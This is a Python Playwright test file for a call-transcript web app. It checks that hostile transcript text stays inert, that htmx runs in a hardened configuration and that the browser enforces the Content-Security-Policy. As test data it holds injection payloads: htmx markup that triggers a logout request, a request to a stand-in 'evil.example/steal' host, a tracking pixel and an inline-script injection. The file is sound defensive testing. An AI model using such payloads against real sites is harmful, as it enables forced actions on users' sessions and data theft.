"""Hostile text from Truedy stays text in a real browser; htmx runs hardened (no eval, no
script tags in swaps, no snapshots in localStorage); the browser enforces the
Content-Security-Policy."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from calls.simulator import render
from calls.simulator.conversations import XSS_IMG, XSS_SCRIPT

# Markup htmx itself would act on if it ever reached the DOM as markup: with the CSRF token in
# hx-headers on <body>, the hx-post one would really sign the supervisor out.
HTMX_ATTACKS = (
    '<div hx-get="/accounts/logout/" hx-trigger="load">loading</div>',
    '<button hx-post="/accounts/logout/" hx-trigger="load">sign out</button>',
    '<a hx-get="https://evil.example/steal" hx-trigger="load">link</a>',
    '<img src="https://evil.example/pixel.png" alt="">',
)


@pytest.fixture
def htmx_attacks(monkeypatch):
    """Every hostile call's transcript also ends with HTMX_ATTACKS, one turn each."""
    original = render.build_turns

    def build_turns(seed, call, agent, profile):
        turns = original(seed, call, agent, profile)
        if call.kind == "hostile" and turns:
            last = turns[-1]
            turns += [
                {"speaker": last["speaker"], "text": text, "timestamp": last["timestamp"] + i}
                for i, text in enumerate(HTMX_ATTACKS, start=1)
            ]
        return turns

    monkeypatch.setattr(render, "build_turns", build_turns)


def test_hostile_calls_show_their_text_and_run_nothing(
    signed_in, frozen_simulator, live_server, htmx_attacks
):
    page = signed_in
    hostile = [c.id for c in frozen_simulator.data.calls if c.kind == "hostile"]
    assert len(hostile) >= 5
    dialogs: list[str] = []
    requested: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requested.append(request.url))
    origin = live_server.url

    for call_id in hostile:
        requested.clear()
        page.goto(f"/calls/{call_id}/")
        page.wait_for_load_state("networkidle")
        main = page.locator("main")
        expect(main.locator(".summary-text")).to_contain_text(XSS_SCRIPT)
        expect(main.locator(".metadata dl")).to_contain_text(XSS_IMG)
        turns = main.locator("#transcript-turns")
        for text in (XSS_SCRIPT, XSS_IMG, *HTMX_ATTACKS):
            expect(turns).to_contain_text(text)
        for markup in ("script", "img", "[hx-get]", "[hx-post]", "[onerror]"):
            assert main.locator(markup).count() == 0, f"{markup} became markup in {call_id}"
        unexpected = [
            url
            for url in requested
            if not url.startswith(f"{origin}/static/")
            and urlsplit(url).path not in (f"/calls/{call_id}/", f"/calls/{call_id}/recording")
        ]
        assert unexpected == [], f"{call_id} made requests it should not"

    assert dialogs == []
    page.goto("/calls/")
    expect(page.locator(".who")).to_have_text("supervisor")  # still signed in


def test_htmx_is_configured_hardened(signed_in):
    page = signed_in
    page.goto("/calls/")
    config = page.evaluate("htmx.config")
    assert config["allowEval"] is False
    assert config["allowScriptTags"] is False
    assert config["historyCacheSize"] == 0
    assert config["selfRequestsOnly"] is True
    assert config["includeIndicatorStyles"] is False
    assert page.evaluate("localStorage.getItem('htmx-history-cache')") is None


INJECT = """() => new Promise(done => {
  const violations = [];
  document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective));
  window.injectedRan = false;
  const script = document.createElement('script');
  script.textContent = 'window.injectedRan = true';
  document.head.append(script);
  const styled = document.createElement('div');
  styled.setAttribute('style', 'color: rgb(255, 0, 0)');
  document.body.append(styled);
  setTimeout(() => done({
    ran: window.injectedRan,
    color: getComputedStyle(styled).color,
    violations: violations.sort(),
  }), 200);
})"""


def test_the_browser_refuses_inline_script_and_style(signed_in, console):
    # The page's own scripts never do this: the two refusals are provoked here on purpose.
    console.expect("Content Security Policy")
    page = signed_in
    page.goto("/calls/")
    result = page.evaluate(INJECT)
    assert result["ran"] is False
    assert result["color"] != "rgb(255, 0, 0)"
    assert result["violations"] == ["script-src-elem", "style-src-attr"]
